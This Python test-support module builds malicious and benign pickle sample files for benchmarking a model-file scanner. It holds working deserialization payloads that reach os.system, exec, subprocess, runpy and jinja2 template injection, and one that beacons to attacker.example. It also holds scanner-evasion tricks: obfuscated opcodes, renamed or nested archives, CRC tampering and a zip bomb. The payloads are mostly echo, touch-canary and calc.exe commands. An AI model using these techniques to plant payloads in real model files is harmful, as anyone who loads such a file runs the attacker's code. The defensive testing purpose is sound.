"""Builders of malicious and benign pickle samples, written as files and never loaded.

Shared by the pickle check's unit tests, the fuzz tests and ``benchmarks/compare_pickle_scanners.py``.
Malicious payloads are written either with hand-assembled opcodes or with ``pickle.dumps`` of an object
whose ``__reduce__`` names the dangerous callable: serialising only records the reference, it runs
nothing. Nothing here ever calls ``pickle.load``/``torch.load`` on what it writes.

Import it from a test with ``sys.path`` pointing at ``tests/`` (see ``load_samples_module`` users), or by
path with importlib.
"""

from __future__ import annotations

import gzip
import io
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# --- hand assembly of opcodes -------------------------------------------------------------------------
# Only the handful of opcodes the samples need; names follow pickletools.

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
REDUCE = b"R"
STOP = b"."
POP = b"0"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
EMPTY_DICT = b"}"


def ustr(text: str) -> bytes:
    """BINUNICODE: a str literal valid from protocol 1 on."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    """GLOBAL: push ``module.name`` (the opcode every protocol understands)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4) with literal operands."""
    return ustr(module) + ustr(name) + STACK_GLOBAL


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)``: callable, MARK, args, TUPLE, REDUCE. Leaves the result on the stack."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def program(body: bytes, *, proto: bytes = PROTO2) -> bytes:
    """A whole pickle whose result is what ``body`` leaves on the stack."""
    return proto + body + STOP


class _Reduce:
    """Serialises as ``func(*args)``: ``pickle.dumps`` writes the reference, nothing is called."""

    def __init__(self, func: Callable[..., object], args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


# --- payloads -----------------------------------------------------------------------------------------

def os_system_payload() -> bytes:
    """The classic: ``os.system`` (written as ``posix.system`` on POSIX) via ``__reduce__``."""
    return pickle.dumps(_Reduce(os.system, ("echo pwned",)), protocol=2)


def subprocess_payload() -> bytes:
    return pickle.dumps(_Reduce(subprocess.Popen, (["sh", "-c", "echo pwned"],)), protocol=4)


def builtins_exec_getattr_payload() -> bytes:
    """``getattr(sys.modules['builtins'], 'exec')("...")``: no exec/eval global appears in the stream."""
    builtins_module = call(glob("operator", "getitem"), glob("sys", "modules"), ustr("builtins"))
    exec_fn = call(glob("builtins", "getattr"), builtins_module, ustr("exec"))
    return program(call(exec_fn, ustr("import os; os.system('echo pwned')")))


def importlib_getattr_payload() -> bytes:
    """``getattr(importlib.import_module('os'), 'system')('echo pwned')``."""
    module = call(glob("importlib", "import_module"), ustr("os"))
    system = call(glob("builtins", "getattr"), module, ustr("system"))
    return program(call(system, ustr("echo pwned")))


def runpy_payload() -> bytes:
    return program(call(glob("runpy", "_run_code"), ustr("import os; os.system('echo pwned')"), EMPTY_DICT))


def pydoc_pipepager_payload() -> bytes:
    return program(call(glob("pydoc", "pipepager"), ustr("text"), ustr("sh -c 'echo pwned'")))


def numpy_runstring_payload() -> bytes:
    return program(call(glob("numpy.testing._private.utils", "runstring"),
                        ustr("import os; os.system('echo pwned')"), EMPTY_DICT))


def webbrowser_payload() -> bytes:
    return program(call(glob("webbrowser", "open"), ustr("https://attacker.example/beacon")))


def inspect_getattr_static_payload() -> bytes:
    """``getattr_static(getattr_static(os.path, 'os'), 'system')('...')``: no ``system`` global at all."""
    get = glob("inspect", "getattr_static")
    os_module = call(get, glob("os", "path"), ustr("os"))
    system = call(get, os_module, ustr("system"))
    return program(call(system, ustr("echo pwned")))


def protocol0_payload() -> bytes:
    """Hand-written text pickle, no PROTO header: the oldest trick."""
    return b"cos\nsystem\n(S'echo pwned'\ntR."


def stack_global_obfuscated_payload() -> bytes:
    """STACK_GLOBAL whose operands come from the memo, with a decoy in between: no literal pair is adjacent."""
    body = (
        ustr("posix") + MEMOIZE + POP  # memo[0]
        + stack_glob("collections", "OrderedDict") + POP  # decoy
        + ustr("system") + MEMOIZE + POP  # memo[1]
        + b"h\x00" + b"h\x01" + STACK_GLOBAL  # BINGET 0, BINGET 1
        + ustr("echo pwned") + TUPLE1 + REDUCE
    )
    return program(body, proto=PROTO4)


def builtin_eval_py2_payload() -> bytes:
    """Python 2 spelling ``__builtin__.eval``: Python 3's unpickler maps it to ``builtins.eval``."""
    return b"c__builtin__\neval\n(S'__import__(\"os\").system(\"echo pwned\")'\ntR."


def nt_system_payload() -> bytes:
    """Windows spelling of ``os.system``."""
    return program(call(glob("nt", "system"), ustr("calc.exe")))


def operator_attrgetter_payload() -> bytes:
    """``attrgetter('os.system')(os.path)('...')``: the dangerous name is only a string literal."""
    getter = call(glob("operator", "attrgetter"), ustr("os.system"))
    system = call(getter, glob("os", "path"))
    return program(call(system, ustr("echo pwned")))


def benign_dict_payload() -> bytes:
    return pickle.dumps({"vocab": ["a", "b", "c"], "sizes": [1, 2, 3], "epoch": 4, "name": "tiny"}, protocol=4)


# --- containers ---------------------------------------------------------------------------------------

def _torch_state_dict() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3), torch.nn.Linear(3, 2))
    return model.state_dict()


def torch_zip_bytes() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_torch_state_dict(), buf)
    return buf.getvalue()


def _replace_zip_member(data: bytes, suffix: str, payload: bytes) -> bytes:
    """Copy a zip, swapping the member whose name ends with ``suffix`` for ``payload``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            body = payload if info.filename.endswith(suffix) else src.read(info)
            dst.writestr(info.filename, body)
    return out.getvalue()


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return out.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tf.addfile(info, io.BytesIO(body))
    return out.getvalue()


def npy_object_bytes(pickle_payload: bytes, *, shape: tuple[int, ...] = (1,)) -> bytes:
    """An ``.npy`` v1.0 file with object dtype: ``np.load(allow_pickle=True)`` unpickles what follows the header."""
    header = repr({"descr": "|O", "fortran_order": False, "shape": shape}).encode("latin1")
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_payload


# --- the catalogue ------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Sample:
    """One sample file: what it is called, whether a scanner must flag it, and how to make its bytes."""

    name: str
    """Stable id, also the sub-folder the file is written to."""
    filename: str
    """File name inside that folder (extension chosen to match or to lie, as the sample needs)."""
    malicious: bool
    """True: loading it would run attacker code, every scanner should flag it."""
    description: str
    """One line for the comparison matrix."""
    make: Callable[[], bytes]
    """Returns the file's bytes."""
    needs_torch: bool = False
    """Building it imports torch (slow import, ~4 s)."""


def _torch_legacy_bytes() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_torch_state_dict(), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _torch_training_checkpoint_bytes() -> bytes:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Linear(4, 2)
    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(3, 4)).sum().backward()
    opt.step()
    buf = io.BytesIO()
    torch.save({"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3, "loss": 0.25}, buf)
    return buf.getvalue()


def _numpy_npy_bytes() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    return buf.getvalue()


def _numpy_array_pickle_bytes() -> bytes:
    import numpy as np

    return pickle.dumps({"mean": np.arange(6, dtype=np.float64).reshape(2, 3), "n": np.int64(5)}, protocol=4)


SAMPLES: tuple[Sample, ...] = (
    Sample("os_system_reduce", "model.pkl", True, "os.system via __reduce__ (posix.system)", os_system_payload),
    Sample("subprocess_popen", "model.pkl", True, "subprocess.Popen via __reduce__", subprocess_payload),
    Sample("builtins_exec_getattr", "model.pkl", True, "getattr(sys.modules['builtins'], 'exec')(...)",
           builtins_exec_getattr_payload),
    Sample("importlib_getattr", "model.pkl", True, "getattr(importlib.import_module('os'), 'system')(...)",
           importlib_getattr_payload),
    Sample("runpy_run_code", "model.pkl", True, "runpy._run_code(source, {})", runpy_payload),
    Sample("pydoc_pipepager", "model.pkl", True, "pydoc.pipepager(text, shell command)", pydoc_pipepager_payload),
    Sample("numpy_runstring", "model.pkl", True, "numpy.testing._private.utils.runstring(source, {})",
           numpy_runstring_payload),
    Sample("webbrowser_open", "model.pkl", True, "webbrowser.open(url)", webbrowser_payload),
    Sample("inspect_getattr_static", "model.pkl", True, "inspect.getattr_static(os.path, 'os') -> system",
           inspect_getattr_static_payload),
    Sample("protocol0_handwritten", "model.pkl", True, "protocol-0 text pickle: cos\\nsystem", protocol0_payload),
    Sample("stack_global_obfuscated", "model.pkl", True, "STACK_GLOBAL operands fetched from the memo",
           stack_global_obfuscated_payload),
    Sample("builtin_eval_py2", "model.pkl", True, "__builtin__.eval (Python 2 module name)", builtin_eval_py2_payload),
    Sample("nt_system", "model.pkl", True, "nt.system (Windows os.system)", nt_system_payload),
    Sample("operator_attrgetter", "model.pkl", True, "operator.attrgetter('os.system')(os.path)",
           operator_attrgetter_payload),
    Sample("pytorch_zip_data_pkl", "pytorch_model.bin", True, "PyTorch zip whose data.pkl was replaced",
           lambda: _replace_zip_member(torch_zip_bytes(), "data.pkl", os_system_payload()), needs_torch=True),
    Sample("pickle_as_safetensors", "model.safetensors", True, "malicious pickle renamed model.safetensors",
           os_system_payload),
    Sample("nested_zip", "weights.zip", True, "zip inside a zip holding a malicious pickle",
           lambda: zip_of({"inner.zip": zip_of({"payload/model.pkl": runpy_payload()})})),
    Sample("tar_pickle", "weights.tar", True, "tar archive holding a malicious pickle",
           lambda: tar_of({"model/model.pkl": subprocess_payload()})),
    Sample("gzip_pickle", "model.pkl.gz", True, "gzip-compressed malicious pickle",
           lambda: gzip.compress(os_system_payload(), mtime=0)),
    Sample("npy_object_dtype", "array.npy", True, "object-dtype .npy whose pickle calls os.system",
           lambda: npy_object_bytes(os_system_payload())),
    Sample("benign_torch_zip", "pytorch_model.bin", False, "torch.save(state_dict) (zip format)", torch_zip_bytes,
           needs_torch=True),
    Sample("benign_torch_legacy", "pytorch_model.bin", False, "torch.save(state_dict) legacy (non-zip) format",
           _torch_legacy_bytes, needs_torch=True),
    Sample("benign_torch_training_ckpt", "checkpoint.pt", False, "model + SGD optimizer state + epoch",
           _torch_training_checkpoint_bytes, needs_torch=True),
    Sample("benign_dict", "data.pkl", False, "plain dict of lists, ints and strings", benign_dict_payload),
    Sample("benign_numpy_pickle", "stats.pkl", False, "dict of numpy arrays/scalars via pickle.dumps",
           _numpy_array_pickle_bytes),
    Sample("benign_npy", "array.npy", False, "np.save of a float32 array (no pickle)", _numpy_npy_bytes),
)


def by_name(name: str) -> Sample:
    """The sample called ``name``; KeyError lists the known names."""
    for sample in SAMPLES:
        if sample.name == name:
            return sample
    raise KeyError(f"unknown sample {name!r} (known: {', '.join(s.name for s in SAMPLES)})")


def write_sample(sample: Sample, folder: Path) -> Path:
    """Write ``sample`` to ``folder/<name>/<filename>`` (one model folder per sample) and return the file path."""
    target = folder / sample.name / sample.filename
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(sample.make())
    return target


def write_samples(folder: Path, *, include_torch: bool = True) -> dict[str, Path]:
    """Write every sample (optionally skipping those that import torch); name -> file path."""
    return {s.name: write_sample(s, folder) for s in SAMPLES if include_torch or not s.needs_torch}


# --- containers that hide pickles from scanners (issue 17 items 5, 6, 7, 15) ----------------------------

def canary_payload(canary: Path) -> bytes:
    """``os.system('touch <canary>')``: if the file ever exists, something unpickled the sample."""
    return pickle.dumps(_Reduce(os.system, (f"touch {canary}",)), protocol=4)


def exec_payload() -> bytes:
    return pickle.dumps(_Reduce(exec, ("import os; os.system('echo pwned')",)), protocol=2)


def npy_with_descr(descr: object, pickle_payload: bytes, *, header_bytes: int = 0) -> bytes:
    """An ``.npy`` whose header holds ``descr`` as written, padded with spaces to ``header_bytes`` at least
    (format 2.0, a 4-byte length, when it no longer fits format 1.0's two bytes)."""
    text = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode("latin1")
    length = max(len(text) + 1, header_bytes)
    version, size_field = (b"\x01\x00", "<H") if length < 0xFFFF - 64 else (b"\x02\x00", "<I")
    preamble = 8 + struct.calcsize(size_field)
    length += -(preamble + length) % 64
    header = text + b" " * (length - len(text) - 1) + b"\n"
    return b"\x93NUMPY" + version + struct.pack(size_field, len(header)) + header + pickle_payload


def joblib_dump_bytes(obj: object, compress: object, folder: Path, name: str = "model.dat") -> bytes:
    """What ``joblib.dump(obj, path, compress=compress)`` writes (it only serialises; nothing is loaded)."""
    import joblib

    path = folder / name
    joblib.dump(obj, path, compress=compress)
    data = path.read_bytes()
    path.unlink()
    return data


def joblib_malicious(canary: Path) -> object:
    """An object for ``joblib.dump`` whose pickle calls ``os.system`` with a canary command."""
    return {"model": _Reduce(os.system, (f"touch {canary}",)), "n": 3}


def _central_entry(data: bytes, member: str) -> int:
    """Offset of ``member``'s central directory record."""
    name = member.encode()
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        (name_len,) = struct.unpack("<H", data[pos + 28:pos + 30])
        if data[pos + 46:pos + 46 + name_len] == name:
            return pos
        pos = data.find(b"PK\x01\x02", pos + 4)
    raise KeyError(member)


def zip_with_bad_crc(data: bytes, member: str) -> bytes:
    """Flip ``member``'s CRC in both its local header and the central directory (CVE-2025-10156: zipfile then
    refuses the member, torch.load ignores the CRC and unpickles it)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        local = zf.getinfo(member).header_offset
    central = _central_entry(data, member)
    for crc_at in (local + 14, central + 16):
        out[crc_at:crc_at + 4] = bytes(b ^ 0xFF for b in out[crc_at:crc_at + 4])
    return bytes(out)


def zip_with_local_crc_mismatch(data: bytes, member: str) -> bytes:
    """Change only the local header's CRC, so it disagrees with the central directory."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        local = zf.getinfo(member).header_offset
    out[local + 14:local + 18] = b"\xde\xad\xbe\xef"
    return bytes(out)


def write_zip_bomb(path: Path, *, member_bytes: int, members: int = 1) -> Path:
    """A deflated zip of ``members`` pickle-looking members of ``member_bytes`` each (a PROTO header, then
    zeros), written in a stream: the file is about a thousandth of what it expands to."""
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(members):
            with zf.open(f"model{i}.pkl", "w", force_zip64=True) as fh:
                fh.write(PROTO4)
                left = member_bytes - len(PROTO4)
                while left > 0:
                    fh.write(chunk[:left])
                    left -= len(chunk)
    return path


# --- callables that run code but are not on the usual deny lists (issue 17 item 4) ---------------------
# Each payload names CANARY: loading it would create that file; tests assert it never appears.

CANARY = "/tmp/modelaudit-canary-never-created"
EMPTY_TUPLE = b")"
NEWOBJ = b"\x81"
BUILD = b"b"


def fx_forward_from_src_payload(canary: str = CANARY) -> bytes:
    """``torch.fx.graph_module._forward_from_src(source, {})``: exec of the source text."""
    source = f"import os\nos.system('touch {canary}')\ndef forward(self):\n    return None\n"
    return program(call(glob("torch.fx.graph_module", "_forward_from_src"), ustr(source), EMPTY_DICT))


def jinja2_render_payload(canary: str = CANARY) -> bytes:
    """``Template.render(Template(ssti))``: server-side template injection reaching ``os.system``."""
    ssti = "{{ cycler.__init__.__globals__.os.system('touch " + canary + "') }}"
    template = call(stack_glob("jinja2.environment", "Template"), ustr(ssti))
    return program(call(stack_glob("jinja2.environment", "Template.render"), template), proto=PROTO4)


def unknown_callable_payload(canary: str = CANARY) -> bytes:
    """An importable-looking helper off every list, called with a shell command: only the call is known."""
    return program(call(glob("mylib.tools", "run_script"), ustr(f"touch {canary}")))


def in_torch_zip(payload: bytes) -> bytes:
    """A ``torch.save`` zip whose ``data.pkl`` is ``payload`` (what ``torch.load`` unpickles)."""
    return _replace_zip_member(torch_zip_bytes(), "data.pkl", payload)


# --- joblib: array bytes written into the middle of the pickle (issue 17 item 18) ---------------------

def joblib_bytes(value: object) -> bytes:
    """``joblib.dump(value)`` (uncompressed) as bytes: pickling only, nothing is loaded."""
    import tempfile

    import joblib

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "value.joblib"
        joblib.dump(value, path)
        return path.read_bytes()


class _NoTell(io.BytesIO):
    """A write target without ``tell``, like a pipe: joblib then writes arrays without alignment padding."""

    def tell(self) -> int:
        raise io.UnsupportedOperation("not seekable")


def joblib_unaligned_bytes(value: object) -> bytes:
    """What ``joblib.dump`` writes to a non-seekable handle: array bytes straight after the wrapper's BUILD."""
    from joblib.numpy_pickle import NumpyPickler

    out = _NoTell()
    NumpyPickler(out, protocol=pickle.HIGHEST_PROTOCOL).dump(value)
    return out.getvalue()


def _joblib_arrays_bytes() -> bytes:
    import numpy as np

    return joblib_bytes({"ids": np.arange(10), "w": np.arange(12.0).reshape(3, 4),
                         "rec": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]), "f": 0.5})


def _joblib_code_after_array_bytes() -> bytes:
    import numpy as np

    return joblib_bytes([np.arange(10), _Reduce(os.system, (f"touch {CANARY}",))])


def _joblib_object_array_bytes() -> bytes:
    import numpy as np

    return joblib_bytes(np.array([_Reduce(os.system, (f"touch {CANARY}",)), 1], dtype=object))


SAMPLES = SAMPLES + (
    Sample("torch_fx_forward_from_src", "model.pkl", True, "torch.fx.graph_module._forward_from_src(source)",
           fx_forward_from_src_payload),
    Sample("jinja2_template_render", "model.pkl", True, "jinja2 Template(ssti).render() (template injection)",
           jinja2_render_payload),
    Sample("torch_zip_fx_forward_from_src", "pytorch_model.bin", True,
           "PyTorch zip whose data.pkl calls torch.fx's _forward_from_src",
           lambda: in_torch_zip(fx_forward_from_src_payload()), needs_torch=True),
    Sample("joblib_code_after_array", "model.joblib", True, "joblib.dump of [array, os.system reduce]",
           _joblib_code_after_array_bytes),
    Sample("joblib_object_array", "model.joblib", True, "joblib object-dtype array holding an os.system reduce",
           _joblib_object_array_bytes),
    Sample("benign_joblib_arrays", "model.joblib", False, "joblib.dump of 1-D, 2-D, structured arrays and a float",
           _joblib_arrays_bytes),
)
